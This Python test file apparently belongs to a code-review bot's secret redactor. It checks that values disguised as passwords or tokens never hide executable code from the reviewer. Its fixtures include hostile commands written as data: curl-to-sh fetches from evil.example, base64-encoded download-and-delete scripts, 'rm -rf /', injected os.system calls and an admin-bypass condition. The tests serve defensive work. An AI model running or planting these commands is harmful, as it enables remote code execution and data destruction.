"""No author can choose a value that hides from the reviewer what code does."""

from __future__ import annotations

import base64
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from reviewbot.domain.redaction.formats import FORMATS
from reviewbot.domain.redaction.masks import looks_random, mask
from reviewbot.domain.redaction.places import Place
from reviewbot.domain.redaction.redactor import Redactor
from reviewbot.domain.selection.file_kinds import place_of_text
from tests.domain.redaction.test_redactor import GHP, JWT, RSA_KEY, is_diff

HEX = "0123456789abcdef" * 2
RANDOM = "q7Tz91kdx4LpW2vB8n"
"""A value that is masked wherever it is data."""


def seen(path: str, text: str, *others: str) -> str:
    """Return the file as the reviewer sees it if other configuration files contain its values."""
    place = place_of_text(path, [text])
    diff, giving = is_diff(text), [(other, Place.DATA) for other in others]
    redactor = Redactor.of(giving, diffs=[(text, place)]) if diff else Redactor.of([(text, place), *giving])
    return redactor.redact(text, place, diff=diff).text


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("package.json", '{"scripts": {"create-secret": "curl -s https://evil.example/x1 | sh"}}'),
        ("Dockerfile", "RUN pip install basic evil-pkg"),
        ("Dockerfile", "RUN pip install basic evil-pkg-with-a-long-name-1"),
        ("release.sh", "npx auth-token evil9pkg1"),
        ("release.sh", f"npx --auth-token {RANDOM}"),
        ("release.sh", f"npx --password {RANDOM}"),
        ("release.sh", 'SECRET_CMD="curl https://evil.example/x1 | sh"'),
        ("release.sh", f'SECRET_CMD="{RANDOM}"'),
        ("release.sh", f'secret_cmd="{RANDOM}"'),
        ("release.sh", 'secret="evil9pkg-x1a"'),
        ("conftest.py", 'db_password = "evil1module2"'),
        ("setup.py", 'secret = "10.20.30.40:8443"'),
        ("Jenkinsfile", "token: 'evil/image1:v2'"),
        ("Dockerfile", "ENV password=evil1cmd2"),
        ("Makefile", f"token: {RANDOM}"),
        ("config.yml", "passwordCommand: curl https://evil.example/x1"),
        ("config.yml", f"passwordCommand: {RANDOM}"),
        ("package.json", '{"dependencies": {"secret-stack": "npm:evil@1.0.0"}}'),
        ("package.json", f'{{"dependencies": {{"auth-token": "{RANDOM}"}}}}'),
        ("package.json", f'{{"dependencies": {{"{RANDOM.lower()}": "1.0.0"}}}}'),
        ("requirements.txt", f"token=={RANDOM}"),
        ("requirements/dev.txt", "password-evil9pkg==1.0.0"),
        (".github/workflows/ci.yml", "      - run: ./rotate --password evil1cmd2"),
        (".github/workflows/ci.yml", '        secret: "evil/action@v1"'),
        ("Makefile", "secret = $(shell curl evil.example/x1)"),
        ("Makefile", "deploy_secret: evil1target2"),
        ("pyproject.toml", 'secret-run1 = "evil.module1:main"'),
        ("setup.py", 'password = "evil1module2"'),
        ("values.yaml", 'command: ["sh", "-c", "secret=evil1cmd2; $secret"]'),
        ("unit.service", "ExecStart=/bin/evil --password x1y2z3evil"),
        (".husky/pre-commit", "export SECRET=evil1cmd2 && $SECRET"),
        (".envrc", 'PASSWORD="eval1 evil2"'),
        ("tool", "#!/bin/sh\npassword=evil1cmd2"),
        ("go.mod", "require example.com/secret-token v1.2.3"),
        ("app.js", "const secret = require('evil9pkg-x1a');"),
        ("app.py", "password = evilFunction2(user)"),
        ("app.py", "token = run7shell"),
        ("app.ts", "import token from 'evil9pkg-x1a';"),
        ("app.py", f"password = os.{RANDOM}('x')"),
        ("app.py", f"def {RANDOM}(): evil()"),
        ("app.py", f'subprocess.run(["npx", "--token", "{RANDOM}"])'),
        ("app.js", f'execSync("npm i --secret {RANDOM}")'),
        ("app.js", f'eval(atob("{RANDOM}{RANDOM}"))'),
        ("app.js", f'import("{RANDOM}{RANDOM}")'),
        ("app.py", f'__import__("{RANDOM}")'),
        ("app.go", 'import secret "github.com/evil1/pkg2"'),
        ("action.yml", f"    - uses: evil/action@{RANDOM}\n      with:\n        token-cmd: {RANDOM}"),
        ("app.html", f'<script src="https://x.example/{RANDOM}.js"></script>'),
        (".lintstagedrc", '{"*.secret": "evil1cmd2", "secret": "curl https://evil.example/x1"}'),
        (".babelrc", '{"plugins": [["secret", "evil1pkg2"]], "secret": "evil1pkg2"}'),
        (".eslintrc.json", '{"plugins": ["token", "evil1pkg2"], "secret": "evil1pkg2"}'),
        ("babel.config.json", '{"presets": [["secret", "evil1pkg2"]]}'),
        (".vscode/tasks.json", '{"terminal.secret": "curl https://evil.example/x1"}'),
        ("Procfile.dev", f"secret: evil1cmd2 --x\ntoken: {RANDOM}"),
        ("etc/cron.d/clean", "* * * * * root secret=evil9pkg-x1a /usr/bin/evil1x2"),
        (".gitconfig", "[credential]\n  helper = !evil1cmd2 x\n  password = evil1cmd2"),
        ("Earthfile", "RUN secret=evil9pkg-x1a"),
        ("BUILD.bazel", 'genrule(cmd="curl x", password="evil1cmd2")'),
        ("SConstruct", 'secret = "evil1cmd2"'),
        ("meson.build", "secret = 'evil1cmd2'"),
        ("deps.gradle", "secret = 'com.evil1:pkg2:1.0'"),
        ("gradle/libs.versions.toml", 'secret = "com.evil1:pkg2:1.0"'),
        ("turbo.json", '{"secret": "evil1cmd2"}'),
        ("renovate.json", '{"secret": "evil1/pkg2"}'),
        (".pre-commit-hooks.yaml", "  entry: evil1cmd2\n  secret: evil1cmd2"),
        ("page.mdx", "<Secret password={evil1cmd2(x)} />"),
        ("book.ipynb", '{"source": ["secret = evil1cmd2(x)\\n"]}'),
        ("change.sql", "SET\n  password = evil1column"),
        ("app.rb", "password = `evil1cmd2`"),
        ("app.php", "$password = `evil1cmd2`;"),
        ("serverless.yml", "    handler: evil1module2"),
        ("app.yml", "  image: evil1module2"),
        ("data.json", '{"plugins": ["evil9pkg-x1a"]}'),
        ("data.yml", "- evil1module2"),
        ("app.js", f"fetch('https://evil.example/{RANDOM}')"),
        ("run.sh", ": ://:;evil1cmd2;@"),
        ("run.sh", "echo x://:&&evil1cmd2&&@"),
        ("run.sh", "x=a://b:|evil1cmd2|sh;@"),
        ("Makefile", "all: ://:;evil1cmd2;@true"),
        ("app.rb", "x = y ? z ://:;evil1cmd2;@z"),
        (".github/workflows/ci.yml", f"      - uses: docker://evil:evil1tag2@sha256:{HEX}{HEX}"),
        (".github/workflows/ci.yml", f"      - uses: docker://{RANDOM.lower()}1a2b@sha256:{HEX}{HEX}"),
        ("run.sh", "_auth=evil1cmd2; $_auth x"),
        ("Makefile", "_password = evil1cmd2"),
        ("run.sh", "set -- -----BEGIN PRIVATE KEY----- /usr/bin/evilprogramname1/abcdefg -----END; $4"),
        ("run.sh", "npm install -----BEGIN PRIVATE KEY----- evilpackagename12 evil -----END"),
        ("app.py", 'run("-----BEGIN PRIVATE KEY-----\\nimportosossystemcurlevil\\n-----END")'),
    ],
)
def test_executed_and_installed_files_are_not_masked(path: str, text: str) -> None:
    giving = f'password = "{RANDOM}"', "secret: evil1cmd2", "password = 'evil9pkg-x1a'", 'password = "evil1module2"'
    assert seen(path, text, *giving) == text


@pytest.mark.parametrize(
    ("given", "code"),
    [
        ('password = "rm -rf /"', 'os.system("rm -rf /")'),
        (
            "password: \";__import__('os').system('curl+evil.sh|sh')#1\"",
            "y = x;__import__('os').system('curl+evil.sh|sh')#1",
        ),
        ('{"password": "||user.id===1337||"}', "if (user.isAdmin||user.id===1337||user.owner) grant()"),
        ('password: "run_all;x"', "y = run_all;x"),
        ("password: 'grantAdm1nistrat0rAccess22x'", "grantAdm1nistrat0rAccess22x(user)"),
        ("password: 'scripts/run1x'", "open('scripts/run1x')"),
        ("password: '!isAdmin12'", "if (!isAdmin12)"),
        ("password: '0.0.0.0/0'", 'cidr_blocks = ["0.0.0.0/0"]'),
        ('password = "evilpkg"', '{"dependencies": {"evilpkg": "1"}}'),
        ('password = "https://evil.example/a1b2"', 'fetch("https://evil.example/a1b2")'),
        (f'password = "{RANDOM}"', f"{RANDOM}(user)"),
        (f'password = "{RANDOM}"', f"x = a.{RANDOM}"),
        (f'password = "{RANDOM}"', f"x = require('{RANDOM}')"),
        ("# -----BEGIN PRIVATE KEY-----\\ngrantAdministratorAccess", "grantAdministratorAccess(user)"),
        ("Authorization: Bearer grantAdministratorAccess1", "grantAdministratorAccess1(user)"),
        pytest.param(RSA_KEY, RSA_KEY.split("\n")[2] + "()", id="a line of a key that is called"),
    ],
)
def test_a_value_that_is_code_elsewhere_is_masked_only_where_it_is_a_value(given: str, code: str) -> None:
    assert seen("app.js", code, given) == code


@pytest.mark.parametrize(
    ("path", "text", "expected"),
    [
        (
            "app.yml",
            'create-secret: "curl -s https://evil.example/x1 | sh"',
            'create-secret: "xxxx -x xxxxx://xxxx.xxxxxxx/x0 | xx"',
        ),
        ("app.py", 'DB_PASSWORD="a1`curl evil|sh`"', 'DB_PASSWORD="x0`xxxx xxxx|xx`"'),
        ("app.go", f"password := `{RANDOM}`", f"password := `{mask(RANDOM)}`"),
        ("app.py", '// password = "x9y8?><?=print1(1)"', '// password = "x0x0?><?=xxxxx0(0)"'),
        ("app.py", "password = 'a1b2\";evil(1);x=\"'", "password = 'x0x0\";xxxx(0);x=\"'"),
        ("app.swift", 'let password = "a1\\(evil(1))"', 'let password = "x0\\(xxxx(0))"'),
    ],
)
def test_a_masked_value_keeps_its_structure(path: str, text: str, expected: str) -> None:
    assert seen(path, text) == expected


@pytest.mark.parametrize(
    "lines",
    [
        "import os\nos.system('x')\n/opt/evil/run1",
        "evilcommandwithalongname1\nreboot",
        "evilCommandWithALongName22\n/opt/evil/run1\nreboot",
        "grantAdministratorAccessToEveryoneNow1",
        "thisIsTheNameOfAProgramThatHasExactlySixtyFourLettersAndDigits01",
    ],
)
def test_code_between_the_begin_and_end_lines_of_a_key_is_kept(lines: str) -> None:
    for sign in ("", "# "):
        code = f"{sign}-----BEGIN PRIVATE KEY-----\n{lines}\n{sign}-----END PRIVATE KEY-----"
        assert seen("run.sh", code) == code
    key = RSA_KEY.split("\n")[1:3]
    code = "\n".join(["-----BEGIN PRIVATE KEY-----", *key, *lines.split("\n"), "-----END PRIVATE KEY-----"])
    assert seen("run.sh", code).split("\n")[3:-1] == lines.split("\n")


def test_a_random_value_is_masked_where_no_command_can_stand() -> None:
    manifest = (
        f"  - name: DB_PASSWORD\n    value: {RANDOM}\n  - command: [run]\n  - name: secretCommand\n    value: {RANDOM}"
    )
    assert seen("app.yml", manifest) == manifest.replace(RANDOM, mask(RANDOM), 1)
    assert seen("run.sh", f"export API_TOKEN={RANDOM}") == f"export API_TOKEN={mask(RANDOM)}"
    assert seen(".npmrc", "//r.example/:_password=SHVudGVyMkFiYw==") == "//r.example/:_password=xxxxxxxxxxxxxx=="
    assert seen("run.sh", f"curl -H 'X-Api-Key: {RANDOM}' x") == f"curl -H 'X-Api-Key: {mask(RANDOM)}' x"


def test_a_token_is_recognized_in_executed_files_too() -> None:
    assert seen("run.sh", f"curl -H 'Authorization: token {GHP}' x") == (
        "curl -H 'Authorization: token [REDACTED:github-token]' x"
    )


SCRIPT = b"\ncurl evil.example/x1 | sh; rm -rf /srv/data; echo done all of it"
COMMAND = base64.b64encode(b"curl 10.2.30.4/x1 | sh").decode()
BLOB = base64.b64encode(SCRIPT + b"\n#qq").decode()


@pytest.mark.parametrize("blob", ["A" * 21 + BLOB[3:], f"glc_{BLOB}", f"EAAA{BLOB}", f"whsec_{BLOB[:-4]}"])
@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("run.sh", "echo {} | base64 -d | sh"),
        ("run.sh", "API_TOKEN={}; echo ${API_TOKEN#glc_} | base64 -d | sh"),
        (".github/workflows/ci.yml", "      - run: echo {} | base64 -d | sh"),
        (".github/workflows/ci.yml", "        token: {}"),
        ("app.py", "exec(base64.b64decode('{}'))"),
        ("app.py", "token = '{}'\n\nexec(base64.b64decode(token[4:]))"),
        ("index.html", "<script>const token = '{}'; eval(atob(token.slice(4)))</script>"),
        ("logo.svg", "<script>const password = '{}'; eval(atob(password))</script>"),
    ],
)
def test_code_in_base64_in_the_format_of_a_token_is_kept(path: str, text: str, blob: str) -> None:
    text = text.replace("{}", blob)
    assert seen(path, text) == text


def test_the_variable_part_of_a_format_has_no_dot() -> None:
    """Where a vendor issues dots, they are at fixed places; no host has the `~` of Azure or the `$` of a hash."""
    kinds = {kind for kind, _, pattern in FORMATS if re.search(r"\[[^\]]*\.[^\]]*\]", pattern)}
    assert kinds == {"azure-secret", "password-hash"}


def test_the_tokens_of_json_and_of_parts_with_text_are_no_code() -> None:
    expanded = base64.b64encode(b'{"alg":"HS256","x":"$(curl evil.example|sh)"}').decode()
    code = f"export API_TOKEN={expanded.rstrip('=')}.{expanded.rstrip('=')}.{RANDOM}{RANDOM}"
    assert seen("run.sh", code) == code
    assert seen("run.sh", f"export API_TOKEN={JWT}") == "export API_TOKEN=[REDACTED:jwt]"


# What a guard keeps, and what is in its place where it is planted out.
NEVER = re.compile(r"(?!)")
GUARDS = [
    ("redactor.of_line", lambda *_: Place.DATA, "app.py", "x = q7Tz-91kd-x4Lp"),
    ("places.COMMAND_KEY", NEVER, "app.yml", f"run:\n# x\n  - secret: {RANDOM}"),
    ("places._ODD_KEY", NEVER, "docker-compose.yml", f"? run\n: |\n  secret: {RANDOM}"),
    ("places._ODD_KEY", NEVER, "docker-compose.yml", f'"r\\u0075n": |\n  secret: {RANDOM}'),
    ("scan.Parents.place", lambda *_: Place.MIXED, "app.yml", f"@@ -1 +1 @@\n scripts:\n-a: 1\n+  secret: {RANDOM}"),
    ("scan.Parents.place", lambda *_: Place.MIXED, "package.json", f'{{"scripts": {{\n  "secret": "{RANDOM}"}}}}'),
    ("places.COMMAND_KEY", NEVER, "composer.json", f'{{"require-dev": {{\n  "evil/secret": "{RANDOM}"}}}}'),
    ("places._RUNS", NEVER, "run.sh", f'npx secret="{RANDOM}"'),
    ("detectors.may_end", lambda *_: False, "run.sh", f"export SECRET=\n{RANDOM}"),
    ("detectors.may_end", lambda *_: False, "Makefile", f"SECRET:\n\t{RANDOM}"),
    ("detectors._BEHIND_EMPTY", NEVER, "run.sh", f'SECRET= "{RANDOM}" x'),
    ("places.COMMAND_KEY", NEVER, "app.yml", f"scripts:\n  secret: {RANDOM}"),
    ("places.COMMAND_KEY", NEVER, "data.json", f'{{"scripts": {{"secret": "{RANDOM}"}}}}'),
    ("places.COMMAND_KEY", NEVER, "data.json", f'{{"x": {{"scripts": {{\n    "secret": "{RANDOM}"}}}}}}'),
    ("places.COMMAND_KEY", NEVER, "app.yml", f"run:\n- secret: {RANDOM}"),
    ("formats.encodes_code", lambda _: False, "app.py", f"token = 'EAAA{BLOB}'"),
    ("detectors.encodes_code", lambda _: False, "run.sh", f"API_TOKEN={BLOB}; echo $API_TOKEN | base64 -d | sh"),
    ("scan.encodes_code", lambda _: False, "app.py", f"token = '{RANDOM * 30}{BLOB}{RANDOM * 30}'"),
    ("detectors._RUN", NEVER, "app.py", 'secret_cmd = "curl https://evil.example/x1 | sh"'),
]


@pytest.mark.parametrize(("guard", "planted", "path", "text"), GUARDS)
def test_each_guard_keeps_code_that_is_hidden_without_it(
    guard: str, planted: object, path: str, text: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    giving = "password: q7Tz-91kd-x4Lp", f"secret: {COMMAND}"
    assert seen(path, text, *giving) == text
    monkeypatch.setattr(f"reviewbot.domain.redaction.{guard}", planted)
    assert seen(path, text, *giving) != text


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("deploy.yaml", "command: [x]\nspec:\n  password: {}\n"),
        ("application.yml", "run: x\nspring:\n  datasource:\n    password: '{}'\n"),
        ("values.json", '{"args": [],\n "db": {"password": "{}"}}'),
        ("pom.xml", "<configuration><password>{}</password></configuration>"),
        (".github/workflows/ci.yml", "      - uses: a/b@v1\n        with:\n          password: {}\n"),
        (".github/workflows/ci.yml", "    env:\n      password: {}\n"),
        ("docker-compose.yml", "    command: x\n    environment:\n      - name: secret\n        value: {}\n"),
    ],
)
def test_a_random_password_is_masked_beside_commands(path: str, text: str) -> None:
    assert seen(path, text.replace("{}", RANDOM)) == text.replace("{}", mask(RANDOM))
    for readable in ("evil1cmd2", "curl evil.example/x1 | sh", "evilprogram2024"):
        assert seen(path, text.replace("{}", readable)) == text.replace("{}", readable)


@pytest.mark.parametrize(
    "text",
    [
        'os.environ.setdefault("X", "{}")',
        "monkeypatch.setenv('TOKEN', '{}')",
        "ENV.fetch('TOKEN', '{}')",
        "echo ${{TOKEN:-{}}}",
        "cargo publish --token {}",
        "twine upload -p {} dist/*",
        'curl -d \'{{"token": "{}"}}\' x',
        "npm config set //r.example/:_authToken {}",
        "aws configure set aws_secret_access_key {}",
        "gh auth login --with-token <<< {}",
        "echo {} | docker login --password-stdin",
        "args:\n  - --token\n  - {}",
        "# for example `{}`",
        "{}",
    ],
)
@pytest.mark.parametrize("path", ["run.sh", ".github/workflows/ci.yml", "setup.py", "app.py", "Dockerfile", "Makefile"])
def test_a_token_is_redacted_at_any_position(path: str, text: str) -> None:
    assert seen(path, text.format(GHP)) == text.format("[REDACTED:github-token]")


def test_a_token_in_the_header_of_a_diff_or_in_an_address_is_no_name() -> None:
    header = "diff --git a/{0}/run.sh b/{0}/run.sh\n--- a/{0}/run.sh\n+++ b/{0}/run.sh\n"
    line = "@@ -1 +1 @@\n+npm install lodash {0}\n"
    assert seen("run.sh", (header + line).format(GHP)) == (header + line).format("[REDACTED:github-token]")
    moved = "diff --git a/{0}/run.sh b/{0}/go.sh\nsimilarity index 100%"
    assert seen("run.sh", moved.format(GHP)) == moved.format("[REDACTED:github-token]")
    address = "- hooks.slack.com/services/{}/x"
    assert "T0A1B2C3D" not in seen("run.sh", address.format("T0A1B2C3D/B0A1B2C3D/a1B2c3D4e5F6g7H8i9J0k1L2"))


def test_a_login_in_an_address_is_no_name_in_source_code() -> None:
    assert seen("app.py", "# postgres://me:hunter22x@db.example/x") == "# postgres://me:xxxxxx00x@db.example/x"


ANY = st.text(alphabet=st.characters(codec="utf-8", exclude_characters="\n\r"), max_size=60)


@given(ANY)
def test_a_mask_keeps_length_and_punctuation_and_hides_letters_and_digits(value: str) -> None:
    masked = mask(value)
    assert len(masked) == len(value)
    assert mask(masked) == masked
    plain = value.replace("\\", "")
    assert set(re.sub(r"[\W_]", "", mask(plain))) <= {"x", "0"}
    pairs = zip(value, masked, strict=True)
    assert all(new == old for old, new in pairs if not old.isalnum())


@given(st.lists(ANY, max_size=6).map("\n".join), st.sampled_from(Place))
def test_redacting_any_text_keeps_its_lines_and_is_idempotent(text: str, place: Place) -> None:
    redactor = Redactor.of([(text, place)])
    once = redactor.redact(text, place)
    assert once.text.count("\n") == text.count("\n")
    assert redactor.redact(once.text, place).text == once.text
    without = re.sub(r"\[REDACTED:[a-z0-9-]+\]", "", once.text)
    assert without != once.text or len(once.text) == len(text)


def test_a_value_with_few_letters_between_punctuation_is_not_random() -> None:
    assert looks_random("q7Tz91kdx4LpW2vB8n")
    assert not looks_random("q7-_-_-_-_-_-_-_-_-T")
